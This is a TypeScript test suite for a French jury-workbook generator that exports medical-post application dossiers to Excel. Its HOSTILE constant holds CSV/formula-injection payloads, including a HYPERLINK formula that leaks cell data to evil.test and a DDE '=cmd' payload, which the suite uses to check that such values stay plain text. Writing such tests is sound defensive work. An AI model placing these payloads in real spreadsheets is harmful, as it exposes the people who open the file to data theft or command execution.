import { execFileSync } from 'node:child_process';
import { mkdtempSync, readdirSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { dialects, dropTestDatabases, freshTarget } from './support/postgres.ts';
import { openDatabase, type Db } from '../src/db/database.ts';
import { TEXT_FORMAT } from '../src/reports/cell-text.ts';
import {
  DECISION_COLUMNS,
  DECISIONS_SHEET,
  decisionColumnNumber,
  DEFINED_NAMES,
  dossierNumberFromCell,
  METADATA_SHEET,
  WORKBOOK_FORMAT,
} from '../src/reports/decisions-sheet.ts';
import { writeJuryWorkbook, type JuryWorkbookResult } from '../src/reports/jury-workbook.ts';
import { loadReportData } from '../src/reports/report-data.ts';
import { aumgDemarche, seedDemarche, seedDossiers } from './reports-fixtures.ts';

const DEMARCHE = 57707;
const UI = 'https://demat.example.test/';
const HOSTILE = {
  nom: '=HYPERLINK("http://evil.test/?"&A1,"cliquez")',
  prenom: '+33 6 12 34 56 78',
  structure: '@SUM(A1:A9)',
  universite: '-2+3',
  zone: '\t=1+1',
  message: "\r=cmd|' /C calc'!A0",
};

let dir: string;
let db: Db;
let result: JuryWorkbookResult;
let book: ExcelJS.Workbook;

function sheet(name: string): ExcelJS.Worksheet {
  const found = book.getWorksheet(name);
  if (!found) throw new Error(`feuille ${name} absente`);
  return found;
}

function headers(ws: ExcelJS.Worksheet): string[] {
  const values = ws.getRow(1).values as unknown[];
  return values.slice(1).map((v) => String(v));
}

/** Row of `ws` whose first cell is dossier `number`. */
function rowOf(ws: ExcelJS.Worksheet, number: number): ExcelJS.Row {
  for (let r = 2; r <= ws.rowCount; r++) if (dossierNumberFromCell(ws.getRow(r).getCell(1).value) === number) return ws.getRow(r);
  throw new Error(`dossier ${number} absent de ${ws.name}`);
}

function column(ws: ExcelJS.Worksheet, header: string): number {
  const index = headers(ws).indexOf(header);
  if (index < 0) throw new Error(`colonne ${header} absente de ${ws.name}`);
  return index + 1;
}

describe.each(dialects)('jury workbook (%s)', (dialect) => {
  beforeAll(async () => {
    dir = mkdtempSync(join(tmpdir(), 'ds-ars-reports-'));
    db = await openDatabase(await freshTarget(dialect));
    await seedDemarche(db, DEMARCHE);
    await seedDossiers(db, DEMARCHE, [
      {
        number: 101,
        state: 'accepte',
        nom: 'Martin',
        prenom: 'Alice',
        universite: 'Université Paris Cité',
        structure: 'CDS Belleville',
        zone: 'ZIP',
        specialite: 'Médecine générale',
        dateFinInternat: '2022-10-31',
        ordre: 1,
      },
      {
        number: 102,
        state: 'accepte',
        nom: 'Durand',
        prenom: 'Basile',
        universite: 'Université Paris Cité',
        structure: 'MSP Bobigny',
        zone: 'QPV',
        specialite: 'Médecine générale',
        ordre: 2,
      },
      {
        number: 103,
        state: 'en_instruction',
        nom: HOSTILE.nom,
        prenom: HOSTILE.prenom,
        universite: HOSTILE.universite,
        structure: HOSTILE.structure,
        zone: HOSTILE.zone,
        // 22:10 UTC on 30 April is already 1 May in Paris.
        dateDepot: '2025-04-30T22:10:00.000Z',
        champsModifiedAt: '2025-04-30T22:10:00.123Z',
        evaluation: { complet: false, eligible: 'non' },
        findings: [
          {
            ruleId: 'delai.depot',
            severity: 'bloquant',
            message: 'Dossier déposé le 01/05/2025, après la clôture du 30/04/2025.',
            champLabel: 'Date de dépôt',
            champValue: '01/05/2025',
          },
          { ruleId: 'id.rpps', severity: 'alerte', message: HOSTILE.message, champLabel: 'Numéro RPPS', champValue: '=1+1' },
        ],
      },
      {
        number: 104,
        state: 'en_construction',
        nom: 'Petit',
        prenom: 'Chloé',
        universite: 'Sorbonne Université',
        structure: 'Cabinet Dr Roux',
        zone: 'ZAC',
        evaluation: { complet: true, eligible: 'a_verifier' },
        findings: [
          { ruleId: 'elig.post_internat', severity: 'alerte', message: 'Fin d’internat entre 4 et 5 ans avant la prise de poste.' },
        ],
      },
      {
        number: 105,
        state: 'en_instruction',
        nom: 'Supprimé',
        prenom: 'Dossier',
        deletedAt: '2026-11-25T03:00:00.000Z',
        findings: [{ ruleId: 'delai.depot', severity: 'bloquant', message: 'ne doit pas apparaître' }],
      },
      { number: 106, state: 'en_instruction', nom: 'Sans', prenom: 'Évaluation', universite: 'Sorbonne Université', evaluation: null },
    ]);
    result = await writeJuryWorkbook(db, {
      demarche: aumgDemarche(DEMARCHE),
      uiBaseUrl: UI,
      outDir: join(dir, 'rapports'),
      breakdown: 'groupe',
      now: new Date('2026-11-27T02:30:00.000Z'),
    });
    book = new ExcelJS.Workbook();
    await book.xlsx.readFile(result.path);
  });

  afterAll(async () => {
    await db.destroy();
    await dropTestDatabases();
  });

  it('is a private file named after the démarche and the Paris date, recorded in workbooks', async () => {
    expect(result.path).toBe(join(dir, 'rapports', `dossiers-jury_d${DEMARCHE}_aumg_2026-11-27_0330.xlsx`));
    expect(statSync(result.path).mode & 0o777).toBe(0o600);
    expect(readdirSync(join(dir, 'rapports'))).toEqual([`dossiers-jury_d${DEMARCHE}_aumg_2026-11-27_0330.xlsx`]);
    const row = await db.selectFrom('workbooks').selectAll().where('id', '=', result.workbookId).executeTakeFirstOrThrow();
    expect(row).toMatchObject({ demarche_number: DEMARCHE, path: result.path, dossiers: 5 });
    expect(result).toMatchObject({ dossiers: 5, findings: 3 });
  });

  it('has the four sheets in order and a very hidden metadata sheet bound to the démarche', () => {
    expect(book.worksheets.map((w) => w.name)).toEqual(['Synthèse', 'Dossiers', 'Anomalies', DECISIONS_SHEET, METADATA_SHEET]);
    const meta = sheet(METADATA_SHEET);
    expect(meta.state).toBe('veryHidden');
    const entries = Object.fromEntries(
      Array.from({ length: meta.rowCount }, (_, i) => [meta.getCell(i + 1, 1).value, meta.getCell(i + 1, 2).value]),
    );
    expect(entries).toEqual({
      format: WORKBOOK_FORMAT,
      workbook_id: result.workbookId,
      demarche_number: DEMARCHE,
      programme: 'aumg',
      generated_at: '2026-11-27T02:30:00.000Z',
      dossiers: 5,
    });
    expect(book.definedNames.getRanges(DEFINED_NAMES.workbookId).ranges).toEqual([`'${METADATA_SHEET}'!$B$2`]);
    expect(book.definedNames.getRanges(DEFINED_NAMES.demarcheNumber).ranges).toEqual([`'${METADATA_SHEET}'!$B$3`]);
  });

  it('lists one row per live dossier, with a link to DS, French states and Paris dates', () => {
    const ws = sheet('Dossiers');
    expect(headers(ws)).toEqual([
      'N° dossier',
      'État',
      'Déposé le',
      'En instruction le',
      'Traité le',
      'Groupe instructeur',
      'Nom',
      'Prénom',
      'Université',
      'Structure partenaire',
      'Zone sous-dense de la structure de soins',
      'Spécialité de DES',
      'Date de fin d’internat',
      'Ordre de priorité',
      'Complet',
      'Éligible',
      'Bloquants',
      'Alertes',
      'Constats',
    ]);
    expect(ws.rowCount).toBe(6);
    const numbers = Array.from({ length: 5 }, (_, i) => dossierNumberFromCell(ws.getCell(i + 2, 1).value));
    expect(numbers).toEqual([101, 102, 103, 104, 106]);
    const link = ws.getCell(2, 1).value as ExcelJS.CellHyperlinkValue;
    expect(link).toEqual({ text: '101', hyperlink: `https://demat.example.test/procedures/${DEMARCHE}/dossiers/101` });

    const r101 = rowOf(ws, 101);
    expect(r101.getCell(column(ws, 'État')).value).toBe('Accepté');
    expect(r101.getCell(column(ws, 'Ordre de priorité')).value).toBe(1);
    const fin = r101.getCell(column(ws, 'Date de fin d’internat'));
    expect(fin.value).toEqual(new Date(Date.UTC(2022, 9, 31)));
    expect(fin.numFmt).toBe('dd/mm/yyyy');
    expect(r101.getCell(column(ws, 'Complet')).value).toBe('Oui');
    expect(r101.getCell(column(ws, 'Éligible')).value).toBe('Oui');

    const r103 = rowOf(ws, 103);
    expect(r103.getCell(column(ws, 'État')).value).toBe('En instruction');
    expect(r103.getCell(column(ws, 'Déposé le')).value).toEqual(new Date(Date.UTC(2025, 4, 1)));
    expect(r103.getCell(column(ws, 'Éligible')).value).toBe('Non');
    expect((r103.getCell(column(ws, 'Éligible')).fill as ExcelJS.FillPattern).fgColor?.argb).toBe('FFF4CCCC');
    expect(r103.getCell(column(ws, 'Bloquants')).value).toBe(1);
    expect(String(r103.getCell(column(ws, 'Constats')).value)).toContain('Bloquant : Dossier déposé le 01/05/2025');

    expect(rowOf(ws, 104).getCell(column(ws, 'État')).value).toBe('En construction');
    expect(rowOf(ws, 104).getCell(column(ws, 'Éligible')).value).toBe('À vérifier');
    expect(rowOf(ws, 106).getCell(column(ws, 'Complet')).value).toBe('Non évalué');
    expect(ws.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(ws.autoFilter).toBeTruthy();
    expect(ws.getColumn(column(ws, 'Constats')).width).toBeGreaterThanOrEqual(40);
  });

  it('writes formula-like values as plain text cells with the Text format', () => {
    const ws = sheet('Dossiers');
    const r103 = rowOf(ws, 103);
    const expected: Array<[string, string]> = [
      ['Nom', HOSTILE.nom],
      ['Prénom', HOSTILE.prenom],
      ['Université', HOSTILE.universite],
      ['Structure partenaire', HOSTILE.structure],
      ['Zone sous-dense de la structure de soins', HOSTILE.zone],
    ];
    for (const [header, value] of expected) {
      const cell = r103.getCell(column(ws, header));
      expect(cell.type, header).toBe(ExcelJS.ValueType.String);
      expect(cell.value, header).toBe(value);
      expect(cell.formula, header).toBeUndefined();
      expect(cell.numFmt, header).toBe(TEXT_FORMAT);
    }
    const anomalies = sheet('Anomalies');
    const hostile = [...Array(anomalies.rowCount - 1).keys()]
      .map((i) => anomalies.getRow(i + 2))
      .find((r) => r.getCell(4).value === 'id.rpps');
    // A CR is written as LF (XML normalises it anyway); the text stays a string either way.
    expect(hostile?.getCell(6).value).toBe(HOSTILE.message.replace('\r', '\n'));
    expect(hostile?.getCell(6).type).toBe(ExcelJS.ValueType.String);
    expect(hostile?.getCell(8).value).toBe('=1+1');
    expect(hostile?.getCell(8).type).toBe(ExcelJS.ValueType.String);
    // No cell anywhere in the workbook is a formula.
    for (const ws of book.worksheets)
      ws.eachRow((row) => row.eachCell((cell) => expect(cell.type, `${ws.name}!${cell.address}`).not.toBe(ExcelJS.ValueType.Formula)));
  });

  it('lists one row per finding of a live dossier, with fills by severity', () => {
    const ws = sheet('Anomalies');
    expect(headers(ws)).toEqual(['N° dossier', 'Nom', 'Prénom', 'Règle', 'Gravité', 'Message', 'Champ', 'Valeur', 'Constaté le']);
    const rows = Array.from({ length: ws.rowCount - 1 }, (_, i) => ws.getRow(i + 2));
    expect(rows.map((r) => [dossierNumberFromCell(r.getCell(1).value), r.getCell(4).value, r.getCell(5).value])).toEqual([
      [103, 'delai.depot', 'Bloquant'],
      [103, 'id.rpps', 'Alerte'],
      [104, 'elig.post_internat', 'Alerte'],
    ]);
    expect((rows[0]!.getCell(5).fill as ExcelJS.FillPattern).fgColor?.argb).toBe('FFF4CCCC');
    expect((rows[1]!.getCell(5).fill as ExcelJS.FillPattern).fgColor?.argb).toBe('FFFCE5CD');
    expect(rows[0]?.getCell(7).value).toBe('Date de dépôt');
    expect(rows[0]?.getCell(9).value).toEqual(new Date(Date.UTC(2026, 10, 26)));
  });

  it('gives the jury a protected Décisions sheet with a drop-down and hidden version columns', () => {
    const ws = sheet(DECISIONS_SHEET);
    expect(headers(ws)).toEqual(DECISION_COLUMNS.map((c) => c.header));
    expect(ws.rowCount).toBe(6);
    // Jury order (issue #17): by spécialité (mapped here; dossiers without one last), then the
    // establishments' ordre de priorité, then verdict (éligible, à vérifier, non éligible, non évalué).
    // 101 and 102: Médecine générale, ranks 1 and 2; then 104 (à vérifier), 103 (non), 106 (non évalué).
    const order = Array.from({ length: 5 }, (_, i) => dossierNumberFromCell(ws.getCell(i + 2, 1).value));
    expect(order).toEqual([101, 102, 104, 103, 106]);

    const decision = decisionColumnNumber('decision');
    const motivation = decisionColumnNumber('motivation');
    for (let r = 2; r <= 6; r++) {
      const cell = ws.getCell(r, decision);
      expect(cell.dataValidation).toMatchObject({ type: 'list', allowBlank: true, formulae: ['"Accepter,Refuser,Classer sans suite"'] });
      expect(cell.protection?.locked).toBe(false);
      expect(ws.getCell(r, motivation).protection?.locked).toBe(false);
      // « Forcer » (issue #13, case 3): unlocked, « Oui » or empty.
      expect(ws.getCell(r, decisionColumnNumber('forcer')).protection?.locked).toBe(false);
      expect(ws.getCell(r, decisionColumnNumber('forcer')).dataValidation).toMatchObject({
        type: 'list',
        allowBlank: true,
        formulae: ['"Oui"'],
      });
      expect(ws.getCell(r, 1).protection?.locked).not.toBe(false);
      expect(cell.value).toBeNull();
    }
    expect((ws as unknown as { sheetProtection: { sheet: boolean; hashValue?: string } }).sheetProtection).toMatchObject({ sheet: true });
    expect((ws as unknown as { sheetProtection: { hashValue?: string } }).sheetProtection.hashValue).toBeUndefined();

    for (const c of DECISION_COLUMNS) expect(ws.getColumn(decisionColumnNumber(c.key)).hidden, c.key).toBe(c.hidden ?? false);
    const r103 = rowOf(ws, 103);
    expect(r103.getCell(decisionColumnNumber('dossierId')).value).toBe('RG9zc2llci0103');
    expect(r103.getCell(decisionColumnNumber('demarcheNumber')).value).toBe(DEMARCHE);
    expect(r103.getCell(decisionColumnNumber('stateSeen')).value).toBe('en_instruction');
    expect(r103.getCell(decisionColumnNumber('champsModifiedAt')).value).toBe('2025-04-30T22:10:00.123Z');
    expect(r103.getCell(decisionColumnNumber('nom')).value).toBe(HOSTILE.nom);
    expect(rowOf(ws, 101).getCell(decisionColumnNumber('etablissement')).value).toBe('Université Paris Cité / CDS Belleville');
  });

  it('sums up states, verdicts, breakdowns and the AUMG budget', () => {
    const ws = sheet('Synthèse');
    const lines: unknown[][] = [];
    ws.eachRow((row) => lines.push((row.values as unknown[]).slice(1)));
    const find = (label: string) => lines.find((l) => l[0] === label);
    expect(String(lines[0]?.[0])).toBe('AUMG vague 12 (2025-2027)');
    expect(find('Accepté')).toEqual(['Accepté', 2]);
    expect(find('En instruction')).toEqual(['En instruction', 2]);
    expect(find('Classé sans suite')).toEqual(['Classé sans suite', 0]);
    expect(find('À vérifier')).toEqual(['À vérifier', 1]);
    expect(find('Non évalué')).toEqual(['Non évalué', 1]);
    expect(lines.some((l) => l[0] === 'Répartition principale par groupe instructeur')).toBe(true);
    expect(find('Paris')).toEqual(['Paris', 5, 3, 2, 1, 1, 2, 2]);
    expect(find('Postes acceptés')).toEqual(['Postes acceptés', 2]);
    expect(find('Coût d’un poste')).toEqual(['Coût d’un poste', 48_000]);
    expect(find('Montant engagé (postes acceptés)')).toEqual(['Montant engagé (postes acceptés)', 96_000]);
    expect(find('Reste disponible')).toEqual(['Reste disponible', 384_000]);
    expect(find('ZIP')).toEqual(['ZIP', 1, 1, 1, 0, 0, 0, 1]);
  });

  it('writes a valid workbook for a démarche without dossiers, budget or session amounts', async () => {
    const empty = await writeJuryWorkbook(db, {
      demarche: aumgDemarche(99_999, {}),
      uiBaseUrl: UI,
      outDir: join(dir, 'rapports'),
      breakdown: 'specialite',
      now: new Date('2026-11-27T02:31:00.000Z'),
    });
    expect(empty).toMatchObject({ dossiers: 0, findings: 0 });
    const read = new ExcelJS.Workbook();
    await read.xlsx.readFile(empty.path);
    expect(read.getWorksheet('Dossiers')?.rowCount).toBe(1);
    expect(headers(read.getWorksheet(DECISIONS_SHEET)!)).toEqual(DECISION_COLUMNS.map((c) => c.header));
    const lines: unknown[] = [];
    read.getWorksheet('Synthèse')!.eachRow((row) => lines.push(row.getCell(1).value));
    expect(lines).toContain('Répartition principale par spécialité');
    expect(lines).not.toContain('Budget (financement ARS par poste)');
    expect(lines.indexOf('Répartition principale par spécialité')).toBeLessThan(lines.indexOf('Répartition par groupe instructeur'));
  });

  it('keeps a cloned démarche (same descriptor ids) out of the report', async () => {
    await seedDemarche(db, 57_708, 'AUMG, session clonée');
    await seedDossiers(db, 57_708, [{ number: 201, nom: 'Clone', prenom: 'Zoé', universite: 'Université clonée' }]);
    const data = await loadReportData(db, aumgDemarche(DEMARCHE));
    expect(data.dossiers.map((d) => d.number)).toEqual([101, 102, 103, 104, 106]);
    const clone = await loadReportData(db, aumgDemarche(57_708));
    expect(clone.dossiers.map((d) => [d.number, d.fields.get('candidat.nom')?.stringValue])).toEqual([[201, 'Clone']]);
  });

  it('opens in LibreOffice without repair (when installed)', (context) => {
    const soffice = ['soffice', 'libreoffice'].find((bin) => {
      try {
        execFileSync('which', [bin], { stdio: 'ignore' });
        return true;
      } catch {
        return false;
      }
    });
    if (!soffice) {
      context.skip('LibreOffice absent : conversion headless non testée');
      return;
    }
    const out = join(dir, 'lo');
    execFileSync(soffice, ['--headless', '--convert-to', 'pdf', '--outdir', out, result.path], { stdio: 'ignore', timeout: 120_000 });
    expect(readdirSync(out).some((f) => f.endsWith('.pdf'))).toBe(true);
  });
});
